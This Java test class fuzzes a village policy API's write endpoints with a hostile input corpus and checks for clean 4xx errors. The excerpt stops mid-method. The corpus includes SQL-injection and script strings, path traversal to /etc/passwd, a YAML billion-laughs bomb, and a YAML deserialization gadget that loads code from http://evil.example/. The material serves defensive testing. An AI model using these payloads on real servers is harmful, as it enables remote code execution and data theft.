package org.jifen.api.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import com.fasterxml.jackson.core.JsonParseException;
import com.fasterxml.jackson.core.exc.StreamConstraintsException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.BufferedInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDateTime;
import java.time.ZoneId;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.jifen.api.policy.draft.PolicyApiTest;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.converter.json.MappingJackson2HttpMessageConverter;

/**
 * The hostile input corpus: several hundred requests, generated and hand-written, against every
 * write endpoint. Each gets a 4xx problem+json, or a 2xx where the input is legitimately valid
 * (CJK names, a script string as a comment); never a 5xx. Every rejected request leaves the row
 * count of every table unchanged, and no problem shows a stack trace, class name or SQL.
 *
 * <p>The corpus, kept as data in {@code hostile/*.txt} (one string a line) and generated here:
 * truncated and invalid JSON, wrong types for every field, 100,000 nested brackets, 50 MB bodies
 * (streamed, declared and chunked), wrong content types and Accept headers, SQL-injection and
 * script strings in every text field (bodies, paths and query parameters), emoji and CJK,
 * negative, huge, past and future values, duplicate and unknown keys.
 */
class HostileInputTest extends PolicyApiTest {

    /** What a case may get back. */
    enum Expect {
        /** a 2xx: the input is valid, however odd it looks */
        VALID,
        /** a 4xx problem+json, and no row changes */
        REJECTED,
        /** either; never a 5xx */
        EITHER
    }

    /**
     * A body generated while it is sent rather than held in memory: {@code prefix}, then {@code unit}
     * repeated, {@code length} bytes in all.
     */
    record Streamed(byte[] prefix, byte[] unit, long length, boolean chunked, boolean expectContinue) {
    }

    /** One request of the corpus. {@code body} is null, a byte[] or a {@link Streamed}. */
    record Hostile(String name, String method, String path, String contentType, Object body,
            Map<String, String> headers, Expect expect, int status, String echoes) {

        Hostile(String name, String method, String path, String contentType, Object body, Map<String, String> headers,
                Expect expect, int status) {
            this(name, method, path, contentType, body, headers, expect, status, "");
        }

        Hostile withStatus(int exact) {
            return new Hostile(name, method, path, contentType, body, headers, expect, exact, echoes);
        }

        /** The same request, whose answer may quote {@code earlier}: text the client sent before (a draft file). */
        Hostile echoing(String earlier) {
            return new Hostile(name, method, path, contentType, body, headers, expect, status, earlier);
        }

        /** The text the client sent, so that a problem may echo it without counting as a leak. */
        String sent() {
            String text = path + " " + headers + " " + echoes;
            if (body instanceof byte[] bytes && bytes.length < 1_000_000) {
                text += " " + new String(bytes, StandardCharsets.UTF_8);
            }
            return text;
        }
    }

    /** Strings that show internals when a client did not send them. */
    private static final List<String> LEAKS = List.of("Exception", "org.", "java.", "javax.", "SQL", "jdbc",
            "Caused by", "\tat ", ".java:", "mybatis", "MyBatis", "Hikari", "MariaDB", "com.fasterxml", "jakarta.",
            "springframework", "StreamReadConstraints");

    private static final long FIFTY_MB = 50L * 1024 * 1024;
    private static final int NESTING = 100_000;
    private static final String JSON_TYPE = "application/json";
    private static final String TEXT_UTF8 = "text/plain; charset=utf-8";

    private static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();

    @LocalServerPort
    private int port;

    // ------------------------------------------------------------------------------------------
    // the corpus

    @TestFactory
    Stream<DynamicTest> corpus() {
        Fixture fixture = new Fixture();
        List<Hostile> corpus = new ArrayList<>();
        for (Target target : fixture.targets()) {
            corpus.addAll(generated(target));
        }
        corpus.addAll(handWritten(fixture));
        corpus.addAll(draftFiles(fixture));
        corpus.addAll(simulations(fixture));
        corpus.addAll(fiftyMegabytes(fixture));
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(200);
        assertThat(corpus.stream().map(Hostile::name).distinct().count()).isEqualTo(corpus.size());
        return corpus.stream().map(c -> dynamicTest(c.name(), () -> check(c)));
    }

    /** A JSON write endpoint: how to make a fresh valid request, and the fields by JSON type (JSON pointers). */
    record Target(String name, String method, Supplier<String> path, Supplier<ObjectNode> body, List<String> text,
            List<String> numbers, List<String> booleans, List<String> arrays, List<String> objects,
            List<String> dates) {
    }

    /** Villages and members of the corpus, each endpoint with its own village so that valid requests do not interfere. */
    private final class Fixture {

        final String evalVillage = publishedVillage("hz-eval");
        final String member = unique("hz-m");
        final String publishVillage = publishedVillage("hz-pub");
        final String restoreVillage = publishedVillage("hz-rst");
        final String renameVillage = publishedVillage("hz-ren");
        final String simulateVillage = publishedVillage("hz-sim");
        final String filesVillage = newVillage("hz-files");

        Fixture() {
            register(evalVillage, member);
        }

        List<Target> targets() {
            List<Target> targets = new ArrayList<>();
            targets.add(new Target("evaluations", "POST", () -> evaluations(evalVillage), this::evidenceBatch,
                    List.of("/evidence/0/id", "/evidence/0/type", "/evidence/0/memberId", "/evidence/0/occurredAt",
                            "/evidence/0/status", "/evidence/0/reporterId", "/evidence/0/attrs/shift"),
                    List.of("/evidence/0/minutes", "/evidence/0/quantity", "/evidence/0/photos"),
                    List.of("/dryRun"), List.of("/evidence"), List.of("/evidence/0", "/evidence/0/attrs"),
                    List.of()));
            targets.add(new Target("member", "PUT", () -> memberPath("tanyin", unique("hz-m")),
                    () -> object(Map.of("householdId", "h-1", "roles", List.of("RESIDENT", "PARTY_MEMBER"),
                            "joinedOn", "2025-01-01")),
                    List.of("/householdId", "/roles/0"), List.of(), List.of(), List.of("/roles"), List.of(),
                    List.of("/joinedOn")));
            targets.add(new Target("village", "PUT", () -> villagePath(unique("hz-v")),
                    () -> object(Map.of("name", "测试村", "region", "邛崃市 测试镇", "timezone", "Asia/Shanghai",
                            "author", "张三")),
                    List.of("/name", "/region", "/timezone", "/author"), List.of(), List.of(), List.of(), List.of(),
                    List.of()));
            targets.add(new Target("rename", "PUT", () -> villagePath(renameVillage),
                    () -> object(Map.of("name", "改名村", "author", "李四")),
                    List.of("/name", "/region", "/timezone", "/author"), List.of(), List.of(), List.of(), List.of(),
                    List.of()));
            targets.add(new Target("publish", "POST", () -> draft(publishVillage) + "/publish",
                    () -> object(Map.of("author", "张三", "comment", "再发布")),
                    List.of("/author", "/comment", "/effectiveFrom"), List.of(), List.of(), List.of(), List.of(),
                    List.of()));
            targets.add(new Target("restore", "POST", () -> policy(restoreVillage) + "/versions/1/restore",
                    () -> object(Map.of("author", "王主任", "comment", "先按原办法执行")),
                    List.of("/author", "/comment"), List.of(), List.of(), List.of(), List.of(), List.of()));
            if (keysApi()) {
                targets.add(new Target("keys", "POST", () -> "/api/v1/keys",
                        () -> object(Map.of("name", "测试流水线", "role", "PIPELINE", "villages", List.of(evalVillage))),
                        List.of("/name", "/role", "/villages/0"), List.of(), List.of(), List.of("/villages"),
                        List.of(), List.of()));
            }
            return targets;
        }

        ObjectNode evidenceBatch() {
            ObjectNode evidence = JSON.createObjectNode();
            evidence.put("id", unique("hz-e")).put("type", "CLEANING").put("memberId", member)
                    .put("occurredAt", "2026-11-18T08:30").put("status", "APPROVED").put("minutes", 30)
                    .put("quantity", 1).put("photos", 0).put("reporterId", "r-1");
            evidence.putObject("attrs").put("shift", "DAY");
            return batch(false, evidence);
        }
    }

    /** Whether the keys API is part of this build. */
    private boolean keysApi() {
        return get("/api/v1/keys").status() != 404;
    }

    private static ObjectNode object(Map<String, Object> fields) {
        return JSON.valueToTree(new LinkedHashMap<>(fields));
    }

    /** The cases generated for one JSON endpoint. */
    private List<Hostile> generated(Target t) {
        List<Hostile> cases = new ArrayList<>();
        cases.add(json(t, "valid request", t.body().get().toString(), Expect.VALID));

        // truncated JSON: a valid request cut off at six places
        String whole = t.body().get().toString();
        for (int k = 1; k <= 6; k++) {
            int at = whole.length() * k / 7;
            cases.add(json(t, "truncated at " + at, whole.substring(0, at), Expect.REJECTED).withStatus(400));
        }
        // not JSON, or not the JSON of a request
        for (String invalid : lines("invalid-json.txt")) {
            cases.add(json(t, "invalid JSON " + invalid, invalid.replace("\\n", "\n"), Expect.REJECTED)
                    .withStatus(400));
        }
        cases.add(json(t, "empty body", "", Expect.REJECTED).withStatus(400));
        cases.add(json(t, "trailing garbage", whole + " {\"x\":1}", Expect.REJECTED).withStatus(400));
        cases.add(json(t, "NUL byte inside", whole.substring(0, whole.length() - 1) + "\u0000}", Expect.REJECTED)
                .withStatus(400));

        // wrong types, field by field
        JsonNodeFactory n = JsonNodeFactory.instance;
        List<JsonNode> notText = List.of(n.numberNode(12345), n.booleanNode(true), n.arrayNode(), n.objectNode());
        List<JsonNode> notNumber = List.of(n.textNode("30"), n.textNode("thirty"), n.numberNode(30.5),
                n.booleanNode(true), n.arrayNode(), n.objectNode());
        List<JsonNode> notBoolean = List.of(n.textNode("true"), n.numberNode(1), n.textNode("yes"), n.arrayNode());
        List<JsonNode> notArray = List.of(n.textNode("RESIDENT"), n.objectNode(), n.numberNode(5));
        List<JsonNode> notObject = List.of(n.arrayNode(), n.textNode("x"), n.numberNode(5), n.booleanNode(false));
        List<JsonNode> notDate = List.of(n.numberNode(20261118), n.textNode("2026-13-45"), n.textNode("yesterday"),
                n.arrayNode().add("2026-11-18"), n.objectNode().put("year", 2026));
        wrongTypes(t, t.text(), notText, cases);
        wrongTypes(t, t.numbers(), notNumber, cases);
        wrongTypes(t, t.booleans(), notBoolean, cases);
        wrongTypes(t, t.arrays(), notArray, cases);
        wrongTypes(t, t.objects(), notObject, cases);
        wrongTypes(t, t.dates(), notDate, cases);

        // SQL injection, script and template strings in every text field: rejected by a format, or stored as given
        for (String field : t.text()) {
            for (String injection : lines("injections.txt")) {
                cases.add(json(t, "injection in " + field + ": " + injection, with(t.body().get(), field,
                        n.textNode(injection)).toString(), Expect.EITHER));
            }
            for (String unicode : lines("unicode.txt")) {
                cases.add(json(t, "unicode in " + field + ": " + unicode, with(t.body().get(), field,
                        n.textNode(unicode)).toString(), Expect.EITHER));
            }
            cases.add(json(t, "100,001 characters in " + field, with(t.body().get(), field,
                    n.textNode("字".repeat(100_001))).toString(), Expect.REJECTED).withStatus(400));
            cases.add(json(t, "5,000 characters in " + field, with(t.body().get(), field,
                    n.textNode("x".repeat(5_000))).toString(), Expect.REJECTED).withStatus(400));
            cases.add(json(t, "control characters in " + field, with(t.body().get(), field,
                    n.textNode("a\u0000b\u0007c\u001b[31m\r\nd")).toString(), Expect.EITHER));
            cases.add(json(t, "empty " + field, with(t.body().get(), field, n.textNode("")).toString(), Expect.EITHER));
            cases.add(json(t, "null " + field, with(t.body().get(), field, n.nullNode()).toString(), Expect.EITHER));
        }
        // negative, huge and fractional numbers
        for (String field : t.numbers()) {
            for (String number : List.of("-1", "-2147483649", "2147483648", "100001", "99999999999999999999999999",
                    "1e400", "-0.0", "1E2", "0x10", "NaN", "Infinity", "1" + "0".repeat(200))) {
                String body = with(t.body().get(), field, n.numberNode(7)).toString()
                        .replace("\"" + last(field) + "\":7", "\"" + last(field) + "\":" + number);
                cases.add(json(t, "number " + number.substring(0, Math.min(number.length(), 30)) + " in " + field, body,
                        Expect.REJECTED).withStatus(400));
            }
        }
        // duplicate keys: each top-level field twice, and one nested
        ObjectNode base = t.body().get();
        base.fieldNames().forEachRemaining(field -> {
            String json = base.toString();
            String duplicated = "{\"" + field + "\":" + base.get(field) + "," + json.substring(1);
            cases.add(json(t, "duplicate key " + field, duplicated, Expect.REJECTED).withStatus(400));
        });
        // an unknown field (a misspelling must not be ignored silently)
        cases.add(json(t, "unknown field", with(t.body().get(), "/comentt", n.textNode("typo")).toString(),
                Expect.REJECTED).withStatus(400));
        // 100,000 nested brackets and objects, alone and inside a field
        cases.add(json(t, "100,000 nested arrays", "[".repeat(NESTING) + "]".repeat(NESTING), Expect.REJECTED)
                .withStatus(400));
        cases.add(json(t, "100,000 nested arrays, unclosed", "[".repeat(NESTING), Expect.REJECTED).withStatus(400));
        cases.add(json(t, "100,000 nested objects", "{\"a\":".repeat(NESTING) + "1" + "}".repeat(NESTING),
                Expect.REJECTED).withStatus(400));
        String firstField = t.text().get(0);
        String nested = with(t.body().get(), firstField, n.textNode("@@NESTED@@")).toString()
                .replace("\"@@NESTED@@\"", "[".repeat(NESTING) + "]".repeat(NESTING));
        cases.add(json(t, "100,000 nested arrays in " + firstField, nested, Expect.REJECTED).withStatus(400));
        cases.add(json(t, "65 nested arrays in " + firstField, nested.replace("[".repeat(NESTING), "[".repeat(65))
                .replace("]".repeat(NESTING), "]".repeat(65)), Expect.REJECTED).withStatus(400));

        // wrong content types, and an Accept header that excludes JSON
        String valid = t.body().get().toString();
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=xyz", "text/html; charset=utf-8", "image/png",
                "application/x-yaml", "not a media type", "application/json; charset=bogus-charset")) {
            cases.add(new Hostile(t.name() + ": Content-Type " + type, t.method(), t.path().get(), type,
                    valid.getBytes(StandardCharsets.UTF_8), Map.of(), Expect.REJECTED, 0));
        }
        cases.add(new Hostile(t.name() + ": no Content-Type", t.method(), t.path().get(), null,
                valid.getBytes(StandardCharsets.UTF_8), Map.of(), Expect.REJECTED, 415));
        cases.add(new Hostile(t.name() + ": UTF-16 body declared as UTF-16", t.method(), t.path().get(),
                "application/json; charset=UTF-16", t.body().get().toString().getBytes(StandardCharsets.UTF_16),
                Map.of(), Expect.EITHER, 0));
        cases.add(new Hostile(t.name() + ": invalid UTF-8 bytes", t.method(), t.path().get(), JSON_TYPE,
                invalidUtf8(t), Map.of(), Expect.REJECTED, 400));
        cases.add(new Hostile(t.name() + ": Accept text/html", t.method(), t.path().get(), JSON_TYPE,
                t.body().get().toString().getBytes(StandardCharsets.UTF_8), Map.of("Accept", "text/html"),
                Expect.REJECTED, 406));
        cases.add(new Hostile(t.name() + ": Accept image/png", t.method(), t.path().get(), JSON_TYPE,
                t.body().get().toString().getBytes(StandardCharsets.UTF_8), Map.of("Accept", "image/png"),
                Expect.REJECTED, 406));
        cases.add(new Hostile(t.name() + ": PATCH", "PATCH", t.path().get(), JSON_TYPE,
                t.body().get().toString().getBytes(StandardCharsets.UTF_8), Map.of(), Expect.REJECTED, 405));
        cases.add(json(t, "body over the size limit (3 MB of spaces)", " ".repeat(3 * 1024 * 1024) + valid,
                Expect.REJECTED).withStatus(413));
        return cases;
    }

    private void wrongTypes(Target t, List<String> fields, List<JsonNode> values, List<Hostile> cases) {
        for (String field : fields) {
            for (JsonNode value : values) {
                cases.add(json(t, "wrong type " + value + " for " + field, with(t.body().get(), field, value).toString(),
                        Expect.REJECTED).withStatus(400));
            }
        }
    }

    /** A valid body with one string value replaced by bytes that are not UTF-8. */
    private static byte[] invalidUtf8(Target t) {
        String marker = "@@BYTES@@";
        byte[] body = with(t.body().get(), t.text().get(0), JsonNodeFactory.instance.textNode(marker)).toString()
                .getBytes(StandardCharsets.UTF_8);
        String text = new String(body, StandardCharsets.ISO_8859_1);
        int at = text.indexOf(marker);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(body, 0, at);
        out.writeBytes(new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0,
                (byte) 0x80});
        out.write(body, at + marker.length(), body.length - at - marker.length());
        return out.toByteArray();
    }

    private Hostile json(Target t, String name, String body, Expect expect) {
        return new Hostile(t.name() + ": " + name, t.method(), t.path().get(), JSON_TYPE,
                body.getBytes(StandardCharsets.UTF_8), Map.of(), expect, 0);
    }

    /** A copy of {@code root} with the value at {@code pointer} replaced (or added). */
    private static ObjectNode with(ObjectNode root, String pointer, JsonNode value) {
        ObjectNode copy = root.deepCopy();
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = slash == 0 ? copy : copy.at(pointer.substring(0, slash));
        String last = pointer.substring(slash + 1);
        if (parent instanceof ObjectNode object) {
            object.set(last, value);
        } else if (parent instanceof ArrayNode array) {
            array.set(Integer.parseInt(last), value);
        } else {
            throw new IllegalArgumentException("no parent for " + pointer + " in " + root);
        }
        return copy;
    }

    private static String last(String pointer) {
        return pointer.substring(pointer.lastIndexOf('/') + 1);
    }

    /** Lines of a corpus file under {@code src/test/resources/hostile/}, without blank lines and comments. */
    static List<String> lines(String file) {
        try (InputStream in = HostileInputTest.class.getResourceAsStream("/hostile/" + file)) {
            assertThat(in).as("corpus file " + file).isNotNull();
            return new String(in.readAllBytes(), StandardCharsets.UTF_8).lines()
                    .filter(l -> !l.isBlank() && !l.startsWith("#")).toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Requests written by hand: paths, attribute keys, batches, dates ahead of the village clock. */
    private List<Hostile> handWritten(Fixture f) {
        List<Hostile> cases = new ArrayList<>();
        JsonNodeFactory n = JsonNodeFactory.instance;
        String evaluations = evaluations(f.evalVillage);
        ZoneId shanghai = ZoneId.of("Asia/Shanghai");
        DateTimeFormatter minutes = DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm");

        // occurredAt: future, far future, far past, out of the calendar
        LocalDateTime now = LocalDateTime.now(shanghai);
        for (String at : List.of(now.plusDays(1).format(minutes), now.plusMinutes(20).format(minutes),
                now.plusYears(5).format(minutes), "9999-12-31T23:59", "+999999999-12-31T23:59", "2026-02-30T08:00",
                "2026-11-18T25:00", "0001-01-01T00:00", "1999-12-31T23:59", "-999999999-01-01T00:00",
                "2026-11-18T08:30+25:00", "2026-11-18T08:30Z[Europe/Paris]", "2026-11-18", "08:30",
                now.plusDays(1).atZone(shanghai).withZoneSameInstant(ZoneId.of("UTC")).toOffsetDateTime().toString())) {
            cases.add(body("evaluations: occurredAt " + at, "POST", evaluations,
                    with(f.evidenceBatch(), "/evidence/0/occurredAt", n.textNode(at)), Expect.REJECTED, 400));
        }
        // attribute names and values
        for (String key : List.of("' OR 1=1 --", "<script>", "", " ", "a".repeat(65), "键", "shift\u0000")) {
            ObjectNode batch = f.evidenceBatch();
            ((ObjectNode) batch.at("/evidence/0/attrs")).put(key, "x");
            cases.add(body("evaluations: attribute name " + key.replace("\u0000", "\\0").substring(0,
                    Math.min(key.length(), 20)), "POST", evaluations, batch, Expect.EITHER, 0));
        }
        ObjectNode manyAttrs = f.evidenceBatch();
        for (int i = 0; i < 51; i++) {
            ((ObjectNode) manyAttrs.at("/evidence/0/attrs")).put("k" + i, "v");
        }
        cases.add(body("evaluations: 51 attributes", "POST", evaluations, manyAttrs, Expect.REJECTED, 400));
        ObjectNode nullAttr = f.evidenceBatch();
        ((ObjectNode) nullAttr.at("/evidence/0/attrs")).putNull("shift");
        cases.add(body("evaluations: null attribute value", "POST", evaluations, nullAttr, Expect.REJECTED, 400));
        // batches: null element, same id twice, an unregistered member, a dry run of CJK ids
        ObjectNode nullElement = f.evidenceBatch();
        ((ArrayNode) nullElement.get("evidence")).addNull();
        cases.add(body("evaluations: null evidence element", "POST", evaluations, nullElement, Expect.REJECTED, 400));
        ObjectNode twice = f.evidenceBatch();
        ((ArrayNode) twice.get("evidence")).add(twice.at("/evidence/0").deepCopy());
        cases.add(body("evaluations: same evidence id twice", "POST", evaluations, twice, Expect.REJECTED, 400));
        cases.add(body("evaluations: unregistered member", "POST", evaluations,
                with(f.evidenceBatch(), "/evidence/0/memberId", n.textNode(unique("nobody"))), Expect.REJECTED, 422));
        cases.add(body("evaluations: CJK and emoji-free ids", "POST", evaluations,
                with(f.evidenceBatch(), "/evidence/0/id", n.textNode("证据-" + unique("甲"))), Expect.VALID, 200));
        cases.add(body("evaluations: emoji id", "POST", evaluations,
                with(f.evidenceBatch(), "/evidence/0/id", n.textNode("🌾-" + unique("e"))), Expect.REJECTED, 400));
        cases.add(body("evaluations: dryRun null", "POST", evaluations,
                with(f.evidenceBatch(), "/dryRun", n.nullNode()), Expect.EITHER, 0));
        ObjectNode empty = f.evidenceBatch();
        empty.putArray("evidence");
        cases.add(body("evaluations: no evidence", "POST", evaluations, empty, Expect.REJECTED, 400));
        // the village in the path
        for (String village : List.of("nowhere", "' OR '1'='1", "<script>", "..", "檀阴", "🌾", "a".repeat(300))) {
            cases.add(body("evaluations: village path " + village.substring(0, Math.min(village.length(), 20)),
                    "POST", evaluations(village), f.evidenceBatch(), Expect.REJECTED, 0));
        }

        // member ids in the path, joinedOn, roles
        ObjectNode registration = object(Map.of("householdId", "h-1", "roles", List.of("RESIDENT")));
        for (String member : List.of("' OR '1'='1", "<script>alert(1)</script>", "a b", "a".repeat(65), "🌾",
                "x\u0000y", "../../etc")) {
            cases.add(body("member: id " + member.replace("\u0000", "\\0").substring(0, Math.min(member.length(), 25)),
                    "PUT", memberPath("tanyin", member), registration, Expect.REJECTED, 0));
        }
        cases.add(body("member: CJK id", "PUT", memberPath("tanyin", unique("张三")), registration, Expect.VALID, 200));
        cases.add(body("member: CJK extension B id", "PUT", memberPath("tanyin", unique("𠀀𠀁")), registration,
                Expect.VALID, 200));
        cases.add(body("member: unknown village", "PUT", memberPath("nowhere-" + unique("v"), "m1"), registration,
                Expect.REJECTED, 404));
        for (String date : List.of("9999-12-31", "+999999999-12-31", "0001-01-01", "-000001-01-01", "2026-02-30",
                LocalDateTime.now(shanghai).plusYears(2).toLocalDate().toString(), "1899-12-31")) {
            cases.add(body("member: joinedOn " + date, "PUT", memberPath("tanyin", unique("hz-m")),
                    with(registration, "/joinedOn", n.textNode(date)), Expect.REJECTED, 400));
        }
        ArrayNode manyRoles = n.arrayNode();
        for (int i = 0; i < 21; i++) {
            manyRoles.add("ROLE_" + i);
        }
        cases.add(body("member: 21 roles", "PUT", memberPath("tanyin", unique("hz-m")),
                with(registration, "/roles", manyRoles), Expect.REJECTED, 400));
        ArrayNode longRoles = n.arrayNode();
        for (int i = 0; i < 20; i++) {
            longRoles.add(("ROLE" + i + "_").repeat(8).substring(0, 24));
        }
        cases.add(body("member: 20 roles of 24 characters", "PUT", memberPath("tanyin", unique("hz-m")),
                with(registration, "/roles", longRoles), Expect.VALID, 200));
        cases.add(body("member: null role", "PUT", memberPath("tanyin", unique("hz-m")),
                with(registration, "/roles", n.arrayNode().add("RESIDENT").addNull()), Expect.REJECTED, 400));

        // village ids and time zones
        ObjectNode village = object(Map.of("name", "测试村"));
        for (String id : List.of("UPPER", "-lead", "a_b", "a.b", "' or 1=1", "村", "a".repeat(64), "<x>")) {
            cases.add(body("village: id " + id, "PUT", villagePath(seg(id)), village, Expect.REJECTED, 0));
        }
        for (String zone : List.of("Mars/Olympus", "UTC+99", "../../etc/localtime", "GMT+14:00:01", "Z", "+25:00",
                "SystemV/CST6")) {
            cases.add(body("village: time zone " + zone, "PUT", villagePath(unique("hz-v")),
                    with(village, "/timezone", n.textNode(zone)), Expect.EITHER, 0));
        }
        // publish: effectiveFrom far away; restore: versions that do not exist
        for (String when : List.of("+999999999-12-31T00:00", "9999-12-31T23:59:59", "0000-01-01", "-1-01-01",
                "2026-11-18T08:30+99:00", "tomorrow", "2999-12-31")) {
            cases.add(body("publish: effectiveFrom " + when, "POST", draft(f.publishVillage) + "/publish",
                    object(Map.of("author", "张三", "effectiveFrom", when)),
                    when.equals("2999-12-31") ? Expect.EITHER : Expect.REJECTED, 0));
        }
        for (String version : List.of("0", "-1", "999999", "2147483648", "99999999999999999999", "abc", "1.5",
                "1%20OR%201=1")) {
            cases.add(body("restore: version " + version, "POST", policy(f.restoreVillage) + "/versions/" + version
                    + "/restore", object(Map.of("author", "王主任")), Expect.REJECTED, 0));
        }
        // unknown paths and methods under the API
        cases.add(body("unknown path", "POST", "/api/v1/nothing-here", village, Expect.REJECTED, 404));
        cases.add(body("unknown path below a village", "PUT", villagePath(f.evalVillage) + "/secrets", village,
                Expect.REJECTED, 404));
        cases.add(new Hostile("DELETE on evaluations", "DELETE", evaluations, null, null, Map.of(), Expect.REJECTED,
                405));
        cases.add(new Hostile("GET on evaluations", "GET", evaluations, null, null, Map.of(), Expect.REJECTED, 405));
        cases.add(new Hostile("TRACE on a village", "TRACE", villagePath(f.evalVillage), null, null, Map.of(),
                Expect.REJECTED, 405));
        cases.add(new Hostile("method FOO on evaluations", "FOO", evaluations, JSON_TYPE,
                f.evidenceBatch().toString().getBytes(StandardCharsets.UTF_8), Map.of(), Expect.REJECTED, 405));
        cases.add(body("member: joinedOn as [year, month, day]", "PUT", memberPath("tanyin", unique("hz-m")),
                with(object(Map.of("householdId", "h-1")), "/joinedOn", n.arrayNode().add(2025).add(1).add(1)),
                Expect.EITHER, 0));
        return cases;
    }

    private static Hostile body(String name, String method, String path, JsonNode body, Expect expect, int status) {
        return new Hostile(name, method, path, JSON_TYPE, body.toString().getBytes(StandardCharsets.UTF_8), Map.of(),
                expect, status);
    }

    /** Draft files: text bodies, names, encodings, sizes; then validate, test and delete with what was sent. */
    private List<Hostile> draftFiles(Fixture f) {
        List<Hostile> cases = new ArrayList<>();
        String file = draftFile(f.filesVillage, "hostile.drl");
        for (String injection : lines("injections.txt")) {
            cases.add(text("draft file: content " + injection, file, injection + "\n", TEXT_UTF8, Expect.EITHER, 0));
            cases.add(text("draft file: author " + injection, file + "?author=" + seg(injection), "rule\n", TEXT_UTF8,
                    Expect.EITHER, 0));
        }
        for (String unicode : lines("unicode.txt")) {
            cases.add(text("draft file: content " + unicode, file, "// " + unicode + "\n", TEXT_UTF8, Expect.VALID, 0));
        }
        cases.add(text("draft file: author of 101 characters", file + "?author=" + "a".repeat(101), "x", TEXT_UTF8,
                Expect.REJECTED, 400));
        cases.add(text("draft file: 100,000 nested brackets", file, "rule \"x\" when " + "(".repeat(NESTING)
                + ")".repeat(NESTING) + " then end\n", TEXT_UTF8, Expect.EITHER, 0));
        cases.add(text("draft file: NUL bytes", file, "a\u0000b\u0000", TEXT_UTF8, Expect.EITHER, 0));
        cases.add(text("draft file: village.yaml with a YAML tag", draftFile(f.filesVillage, "village.yaml"),
                "id: " + f.filesVillage + "\nname: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                        + "[[!!java.net.URL [\"http://evil.example/\"]]]]\n", TEXT_UTF8, Expect.EITHER, 0));
        cases.add(text("draft file: a YAML billion laughs", draftFile(f.filesVillage, "laughs.yaml"),
                billionLaughs(), TEXT_UTF8, Expect.EITHER, 0));
        cases.add(new Hostile("draft file: invalid UTF-8", "PUT", file, TEXT_UTF8,
                new byte[] {'a', (byte) 0xC3, (byte) 0x28, (byte) 0xFF}, Map.of(), Expect.REJECTED, 400));
        cases.add(new Hostile("draft file: one byte over 1 MB", "PUT", file, TEXT_UTF8, filled(1024 * 1024 + 1),
                Map.of(), Expect.REJECTED, 413));
        cases.add(new Hostile("draft file: exactly 1 MB", "PUT", file, TEXT_UTF8, filled(1024 * 1024), Map.of(),
                Expect.VALID, 0));
        cases.add(new Hostile("draft file: 3 MB", "PUT", file, TEXT_UTF8, filled(3 * 1024 * 1024), Map.of(),
                Expect.REJECTED, 413));
        for (String type : List.of("application/json", "image/png", "multipart/form-data; boundary=x",
                "application/x-www-form-urlencoded", "text/plain; charset=bogus", "text/plain; charset=UTF-7",
                "not/a/type")) {
            cases.add(text("draft file: Content-Type " + type, file, "rule\n", type, Expect.REJECTED, 0));
        }
        cases.add(text("draft file: GBK text declared as GBK", file, "规则\n", "text/plain; charset=GBK",
                Expect.VALID, 0));
        for (String name : List.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e", "a%00.drl", "x.exe", ".drl", "a%20b.drl",
                "%3Cscript%3E.drl", "a".repeat(101) + ".drl", "%27%20OR%201%3D1.drl", "%E6%96%87%E4%BB%B6.drl",
                "a;b.drl", "..drl", "a%5Cb.drl", "%252e%252e%252f.drl")) {
            cases.add(text("draft file: name " + name.substring(0, Math.min(name.length(), 30)),
                    draftFile(f.filesVillage, name), "rule\n", TEXT_UTF8, Expect.REJECTED, 0));
            cases.add(new Hostile("draft file: DELETE " + name.substring(0, Math.min(name.length(), 30)), "DELETE",
                    draftFile(f.filesVillage, name), null, null, Map.of(), Expect.REJECTED, 0));
        }
        cases.add(text("draft file: unknown village", draftFile("nowhere-" + unique("v"), "a.drl"), "rule\n",
                TEXT_UTF8, Expect.REJECTED, 404));
        cases.add(new Hostile("draft file: POST", "POST", file, TEXT_UTF8, "x".getBytes(StandardCharsets.UTF_8),
                Map.of(), Expect.REJECTED, 405));
        for (String action : List.of("validate", "test")) {
            cases.add(new Hostile("draft " + action + " with a junk body", "POST", draft(f.filesVillage) + "/" + action,
                    "application/octet-stream", new byte[] {0, 1, 2, (byte) 0xFF}, Map.of(), Expect.VALID, 200));
        }
        // the publish is refused naming the problems of the files sent above, which it may quote
        cases.add(new Hostile("draft publish of the hostile draft", "POST", draft(f.filesVillage) + "/publish",
                JSON_TYPE, "{\"author\":\"张三\"}".getBytes(StandardCharsets.UTF_8), Map.of(), Expect.REJECTED, 422)
                .echoing(String.join(" ", lines("injections.txt"))));
        return cases;
    }

    private static String billionLaughs() {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char previous = 'a';
